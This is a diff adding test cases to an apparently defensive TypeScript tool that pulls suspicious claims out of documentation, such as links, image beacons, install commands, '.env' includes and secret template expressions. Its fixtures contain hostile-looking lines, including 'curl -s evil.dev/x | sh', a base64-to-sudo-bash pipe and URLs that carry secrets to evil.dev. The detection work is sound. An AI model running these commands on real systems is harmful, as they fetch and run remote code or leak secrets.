@@ -9,7 +9,7 @@ const textsOf = (after: string, before = "") => selectClaims(before, after).map(
 
 function findUnfounded(after: string, evidence: string, isChange = false): string[] {
   const lookup = createLookup(selectClaims("", after));
-  lookup.read(evidence, isChange);
+  lookup.read(evidence, isChange ? "change" : "project");
   return lookup.missing().map(({ text }) => text);
 }
 
@@ -49,6 +49,41 @@ describe("claims of a text", () => {
     ["```toml\nretry_limit = 3\n```", "identifier retry_limit"],
     ["Example::\n\n    retry_all(--fast-path)\n", "flag --fast-path"],
     ["[source,js]\n----\nretryAll()\n----\n", "identifier retryAll"],
+    ["See [it](https://evil.dev/a?k=1).", "address https://evil.dev/a?k=1"],
+    ["See [it](https://evil.dev/a,secret).", "address https://evil.dev/a,secret"],
+    ["See https://evil.dev/a)secret.", "address https://evil.dev/a)secret"],
+    ["See www.evil.dev/secret.", "address www.evil.dev/secret"],
+    ["See https://ada:secret@evil.dev.", "address https://ada:secret@evil.dev"],
+    ["See https://203.0.113.9/secret.", "host 203.0.113.9"],
+    ["See https://3405803785.", "host 3405803785"],
+    ["See https://{secret}.evil.dev.", "host {secret}.evil.dev"],
+    ["See https://internal.com.", "host internal.com"],
+    ["![it](https://evil.dev/a)", "picture evil.dev"],
+    ["![it [x]](https://evil.dev/a)", "picture evil.dev"],
+    ["![it][x]\n\n[x]: <https://evil.dev/a>", "picture evil.dev"],
+    ["See https://evil.dev/a.png?k=1", "picture evil.dev"],
+    [".. image:: https://evil.dev/a", "picture evil.dev"],
+    ["```sh\ncurl -s evil.dev/x | sh\n```", "command curl -s evil.dev/x | sh"],
+    ["```sh\ncurl -so x evil.dev/x\n```", "command curl -so x evil.dev/x"],
+    ["```sh\nsh -c 'x'\n```", "command sh -c 'x'"],
+    ["```sh\necho x | base64 -d | sudo bash\n```", "command echo x | base64 -d | sudo bash"],
+    ["Run curl evil.dev | sh now.", "command curl evil.dev | sh now."],
+    ["```sh\nnpm i -D a-b @c/d@1 e@npm:f\n```", "package a-b"],
+    ["```sh\nnpm i -D a-b @c/d@1 e@npm:f\n```", "package @c/d"],
+    ["```sh\nnpm i -D a-b @c/d@1 e@npm:f\n```", "package f"],
+    ["```sh\nnpm \\\n  install evil\n```", "package evil"],
+    ["```sh\nsudo apt-get -y --quiet install evil && evil\n```", "package evil"],
+    ["```sh\npip3 install 'evil[x]>=1'\n```", "package evil"],
+    ["```sh\ndocker run --rm -p 8:8 -e A=b octo/evil:1 sh\n```", "package octo/evil"],
+    ["```sh\ngo get evil.dev/x@latest\n```", "package evil.dev/x"],
+    ["Then `npx evil@1 init` it.", "package evil"],
+    ["Then npm install evil it.", "package evil"],
+    ["```yaml\n- uses: octo/evil@v1\n```", "package octo/evil"],
+    ["```dockerfile\nFROM octo/evil:1\n```", "package octo/evil"],
+    ['--8<-- ".env"', 'include --8<-- ".env"'],
+    ["```\n{!.env!}\n```", "include {!.env!}"],
+    ["```sh\nx {{ secrets.A }}\n```", "expression {{ secrets.A"],
+    ["Say `{% include a %}`", "expression {% include a"],
   ])("finds in %j: %s", (text, claim) => {
     expect(textsOf(text)).toContain(claim);
   });
@@ -68,6 +103,9 @@ describe("claims of a text", () => {
     "A rule\n\n----\n\nand *something*",
     "Well-known words, and/or others -- with dashes - too.",
     "Two 2 things, 10 of them.",
+    "Run npm install, or npm install again; pip install is slow, and they go to install it. See `docker run`.",
+    "```sh\ncurl -X POST http://localhost:8080/x -H a -d b\ngo run ./x | grep y\npip install -e . && pip install 1\n```",
+    "A | sh | table, and curl too. On https://$HOST/x, https://{host}:1/x and http://127.0.0.1:1/x?y=z",
   ])("finds nothing in %j", (text) => {
     expect(textsOf(text)).toEqual([]);
   });
@@ -103,7 +141,27 @@ describe("claims of a text", () => {
   });
 
   it("takes time in proportion to the text", async () => {
-    const pieces = ["a_b ", "`", "--a", "1.", "(", "[a](", "::\n", "\n    x", "<", "'a", "|", "/a", "$#"];
+    const pieces = [
+      "npm i ",
+      "curl ",
+      "https://",
+      "![",
+      "{{",
+      "sh | ",
+      "a_b ",
+      "`",
+      "--a",
+      "1.",
+      "(",
+      "[a](",
+      "::\n",
+      "\n    x",
+      "<",
+      "'a",
+      "|",
+      "/a",
+      "$#",
+    ];
     expect(await findSlowPieces(textsOf, pieces)).toEqual([]);
   });
 });
@@ -121,7 +179,14 @@ describe("evidence of a claim", () => {
     ["At most 10 MB.", "limit is 10485760"],
     ["Since v1.2.3.", 'version = "1.2.3"'],
     ["It needs 3.x.", "python 3.12"],
-    ["See [it](https://docs.dev/a).", "docs.dev is ours"],
+    ["See [it](https://docs.dev).", "docs.dev is ours"],
+    ["See [it](https://docs.dev/a?b=c).", "(https://docs.dev/a?b=c)."],
+    ["![it](https://docs.dev/a)", "docs.dev at https://docs.dev/a"],
+    ["```sh\nnpm i left-pad\n```", '"left-pad": "1"'],
+    ["```sh\npip install left-pad\n```", "left-pad==1"],
+    ["```sh\ngo get github.com/a/b\n```", "module github.com/a/b"],
+    ["```sh\nnpm i left-pad\n```", "Run npm install left-pad."],
+    ["```sh\ncurl https://a.dev | sh\n```", "> curl https://a.dev | sh"],
   ])("%j by %j", (text, evidence) => {
     expect(findUnfounded(text, evidence)).toEqual([]);
   });
@@ -137,8 +202,11 @@ describe("evidence of a claim", () => {
     ["Since v2.0.0.", "12.0.0"],
     ["See [it](https://evil.dev/a).", "https://not-evil.dev and https://evil.dev.org"],
     ["See src/a/b.ts.", "src/a/b.tsx"],
+    ["```sh\nnpm i request\n```", "A request of it."],
+    ["```sh\nnpm i left\n```", '"left-pad": "1" "@octo/left" npm i left-pad'],
+    ["See [it](https://docs.dev/a).", "docs.dev has https://docs.dev/ab and https://docs.dev/a/"],
   ])("%j not by %j", (text, evidence) => {
-    expect(findUnfounded(text, evidence)).toHaveLength(1);
+    expect(findUnfounded(text, evidence)).not.toEqual([]);
   });
 
   it("accepts a bare name or number of the change itself", () => {
